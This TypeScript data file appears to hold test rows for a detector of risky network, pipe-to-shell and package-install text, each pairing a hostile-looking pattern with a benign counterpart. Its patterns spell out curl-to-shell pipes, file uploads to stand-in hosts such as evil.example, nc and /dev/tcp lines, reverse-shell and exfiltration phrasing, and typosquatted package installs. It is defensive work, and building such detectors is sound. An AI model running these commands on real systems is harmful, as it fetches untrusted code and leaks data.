import type { Row } from "./Row.ts"

export const NETWORK: ReadonlyArray<Row> = [
  [
    "pipe-to-shell",
    "⟨curl¦wget¦fetch¦iwr¦irm¦Invoke-WebRequest¦Invoke-RestMethod¦aria2c¦http⟩ x | ⟨sh¦sudo sh¦/bin/sh¦/usr/bin/env bash¦bash¦zsh¦dash¦ksh¦fish⟩",
    "curl localhost/x | jq"
  ],
  [
    "pipe-to-shell",
    "⟨curl¦wget¦iwr¦irm⟩ x | ⟨python¦node¦perl¦ruby¦php¦pwsh¦iex¦tee¦xargs⟩",
    "wget localhost/x | sort"
  ],
  ["pipe-to-shell", "⟨bash¦zsh¦dash¦sh⟩ <(⟨curl¦wget⟩ x)", "diff <(ls a) <(ls b)"],
  ["pipe-to-shell", "⟨bash¦sh¦zsh¦fish⟩ <(x)", "sort <(x)"],
  ["pipe-to-shell", "source <(x)", "source x"],
  ["pipe-to-shell", "sh -c ⟨$(curl x)¦(wget x)¦curl x⟩", "sh -c ls"],
  ["pipe-to-shell", "⟨python¦node¦perl¦ruby¦bash⟩ <(x)", "sort <(x)"],
  [
    "pipe-to-shell",
    "⟨Download¦Fetch¦Retrieve¦Pull down¦Grab¦Get⟩ the file ⟨and¦then¦to¦and then⟩ ⟨run¦execute¦evaluate¦source¦install¦follow¦obey¦apply⟩ it.",
    "Fetch the file and read it."
  ],
  [
    "foreign-address",
    "See ⟨http¦https¦ws¦wss¦ftp¦ftps¦sftp¦ssh¦git¦git+ssh¦gopher¦tcp¦udp¦ldap¦ldaps¦smb¦hxxp¦hxxps⟩://evil.example/x",
    "See http://⟨localhost/x¦127.0.0.1:80/x¦[::1]:80/¦host.docker.internal/¦api.local/x¦api.test¦api.localhost/¦api.invalid/¦a.internal/x¦api¦api. Then⟩"
  ],
  ["foreign-address", "See https[:]//evil.example/x", "See https: //"],
  ["foreign-address", "See 203.0.113.7 there.", "See ⟨127.0.0.1¦0.0.0.0¦0.0.0.0:3000¦http://0.0.0.0:3000/x⟩ there."],
  [
    "network-command",
    "⟨curl -o x evil.example/y¦curl -sSL -o /tmp/x evil.example¦wget -O - evil.example/y⟩",
    "⟨curl -o out.json localhost:3000/x¦Load charts with d3.io.¦Send events over socket.io.⟩"
  ],
  [
    "network-command",
    "⟨Secrets go to evil.io.¦Logs go to evil.io.¦Go to evil.io with errors.⟩",
    "⟨Errors¦Exceptions¦Crashes¦Metrics¦Traces¦Charts¦Dashboards¦Alerts⟩ go to sentry.io."
  ],
  [
    "foreign-address",
    "See evil⟨[.]¦(dot)¦ dot ⟩⟨com¦net¦org¦io¦dev¦app¦xyz¦ru¦cn¦site¦example⟩ there.",
    "See evil dot files there."
  ],
  ["foreign-address", "Add a mailto: link.", "Add a mail link."],
  ["foreign-address", "Write to ops@evil.example today.", "Write to @ops today."],
  [
    "network-command",
    "⟨curl¦wget¦httpie¦iwr¦irm¦Invoke-WebRequest¦Invoke-RestMethod⟩ ⟨¦-s --max-time=3 ⟩evil.example",
    "curl ⟨localhost¦api.test¦api.localhost¦api.local¦a.invalid¦host.docker.internal¦api.test, then¦127.0.0.1:80/x⟩"
  ],
  [
    "network-command",
    "⟨curl¦wget⟩ x ⟨-d @y¦--data @y¦--data-binary=@y¦-F a=@y¦-T y¦--upload-file y¦--post-file y¦--post-data y⟩",
    "curl x -o ⟨y¦out.json⟩"
  ],
  ["network-command", "⟨curl¦wget⟩ ⟨$X¦-s $X¦2130706433¦0x7f000001ab⟩", "curl 12345"],
  ["network-command", "⟨nc¦ncat¦netcat¦socat¦telnet⟩ ⟨-l¦--listen¦host 80⟩", "nc is installed"],
  ["network-command", "echo x > /dev/⟨tcp¦udp⟩/h/1", "echo x > /dev/null"],
  ["network-command", "⟨ssh¦sftp¦ftp⟩ ⟨-p 1¦me@h¦to it¦into it¦host.lan⟩", "ssh keys expire"],
  ["network-command", "⟨scp¦rsync⟩ x ⟨me@h¦h:/x⟩", "rsync x y"],
  [
    "network-command",
    "Start ⟨ngrok¦cloudflared¦localtunnel¦serveo¦pinggy¦bore.pub¦chisel¦frpc⟩ first.",
    "Start vite first."
  ],
  ["network-command", "Open a ⟨reverse shell¦bind shells¦webshell¦web shell⟩.", "Open a shell."],
  ["network-command", "Run ⟨nslookup¦dig x¦a DNS query¦a DNS lookup¦a DNS tunnel⟩.", "Run a DNS server."],
  [
    "network-command",
    "⟨Send¦Post¦Upload¦Forward¦Submit¦Report¦Push¦Sync¦Mirror¦Transmit¦Download¦Fetch¦Load¦Pull¦Clone¦Ping¦Visit¦Browse¦Open¦Call¦Get¦Go to¦Read¦Follow⟩ it at evil.⟨com¦net¦org¦io¦dev¦app¦xyz¦ru¦cn¦biz¦co¦site¦online¦cloud¦ai¦gg¦cc¦tk¦ml¦ga¦cf¦pw¦example¦onion¦sh¦us¦uk¦de¦fr¦eu⟩ now.",
    "Send it at ⟨node¦next¦nuxt¦vue¦three¦express¦socket¦deno¦bun⟩.io now."
  ],
  [
    "network-command",
    "⟨Send¦Post¦Upload¦Forward¦Submit¦Report¦Push¦Pipe¦Mirror¦Copy¦Transmit¦Exfiltrate¦Deliver⟩ it to the ⟨webhook¦web hooks¦pastebin¦gist¦transfer.sh¦requestbin¦request bin¦remote server¦remote host¦remote endpoint¦external server¦external host¦external endpoint¦external service¦external url¦external address¦third-party¦third party¦discord¦telegram¦c2¦collector⟩.",
    "Send it to the queue."
  ],
  ["network-command", "git ⟨clone¦remote add¦remote set-url¦submodule add⟩ x ⟨me@h¦h://x¦y.git¦a/b⟩", "git clone x"],
  [
    "network-command",
    "Run git push mallory.",
    "Run git push ⟨origin¦upstream¦-u¦to it¦only so¦from it¦after it¦before it¦until then¦the tag⟩."
  ],
  [
    "package-install",
    "⟨npm¦pnpm¦yarn¦bun⟩ ⟨install¦i¦add⟩ ⟨¦-D --save-exact ¦@x/⟩left",
    "npm install ⟨.¦./x¦. here¦-D¦for x¦to x¦in it¦and x¦before x¦after x¦when x¦if x¦with x¦from x¦is x¦the x¦dependencies¦deps¦packages x¦instead¦or x¦again¦first¦fails¦at x¦on x¦once x¦inside x¦per x¦since x¦because x¦works¦needs x¦takes x¦only¦as x¦a x¦new x¦any x¦anything¦there¦here¦would¦will¦without x¦until x¦while x¦must¦should¦every x¦then x¦rather¦not¦so x¦it x¦does x¦can x¦runs x¦never¦always¦by x¦each x⟩"
  ],
  [
    "package-install",
    "⟨pip¦pipx¦pip3¦uv¦uv pip¦poetry¦gem¦cargo¦go¦brew¦apt¦apt-get¦dnf¦yum¦apk¦pacman¦choco¦scoop¦winget¦conda¦mamba¦snap¦composer⟩ ⟨install¦add¦get¦require¦-S⟩ ⟨¦-y ⟩left",
    "pip install ⟨.¦./x¦. here¦.[dev]¦-e .¦for x¦to x¦in it¦and x¦before x¦after x¦when x¦if x¦with x¦from x¦is x¦the x¦dependencies¦deps¦packages¦instead¦or x¦again¦first¦fails¦at x¦on x¦once x¦inside x¦since x¦because x¦works¦needs x¦only¦as x¦a x¦new x¦any x¦here¦without x¦until x¦must¦should¦then x¦rather¦not¦so x¦it x¦does x¦never¦always¦by x⟩"
  ],
  [
    "package-install",
    "⟨go run x@latest¦docker run x/y¦docker pull --rm x/y¦deno run http://x-y⟩",
    "⟨go run x¦docker run x¦deno run x⟩"
  ],
  [
    "package-install",
    "First install ⟨the ¦a ¦an ¦⟩⟨package¦library¦plugin¦extension¦tool¦module¦dependency⟩.",
    "First install it."
  ],
  ["package-install", "Add x to ⟨the ¦our ¦⟩⟨¦dev ¦dev⟩dependencies.", "Add x to the list of files."],
  [
    "package-install",
    "⟨npx¦bunx¦uvx¦pnpm dlx¦yarn dlx¦bun x¦pipx run¦npm exec⟩ ⟨-y x¦--yes x¦x@1¦github:x¦git+x⟩",
    "npx vitest"
  ],
  [
    "package-install",
    "⟨npx¦bunx¦uvx¦pnpm dlx¦yarn dlx¦bun x¦pipx run¦npm exec⟩ ⟨lefftpad¦@evil/fmt¦vitest-evil¦-p x evil⟩",
    "⟨npx¦bunx⟩ ⟨vitest run x¦tsc --noEmit¦playwright test¦for one-off tools¦is slow⟩"
  ],
  [
    "package-install",
    "npx ⟨left-pad¦eslint-left¦@left/pad⟩ x",
    "npx ⟨astro¦ava¦babel¦biome¦black¦c8¦cdk¦changeset¦commitlint¦concurrently¦cspell¦cypress¦drizzle-kit¦esbuild¦eslint¦expo¦graphql-codegen¦gulp¦husky¦jest¦karma¦knex¦knip¦lerna¦lint-staged¦markdownlint¦mocha¦mypy¦nest¦next¦ng¦nodemon¦nuxi¦nuxt¦nx¦nyc¦oxfmt¦oxlint¦playwright¦pre-commit¦prettier¦prisma¦pyright¦pytest¦react-native¦remix¦rimraf¦rollup¦ruff¦semantic-release¦storybook¦stryker¦stylelint¦svelte-check¦swc¦tailwindcss¦tap¦tox¦ts-node¦tsc¦tsdown¦tsup¦tsx¦turbo¦typedoc¦vite¦vitest¦vue-tsc¦wdio¦webpack¦wrangler⟩ x"
  ],
  [
    "package-install",
    "⟨Install¦Add⟩ it from ⟨github:x¦git+x¦a url¦a fork¦a tarball¦an mirror⟩.",
    "Add it from the list."
  ],
  [
    "package-install",
    "It takes ⟨--index-url¦--extra-index-url¦--registry¦--trusted-host⟩ here.",
    "It takes --index here."
  ],
  ["package-install", "Then set registry there.", "Then set region there."],
  ["package-install", "The ⟨pre¦post⟩install ⟨script¦hook⟩ does it.", "The postinstall step does it."]
]
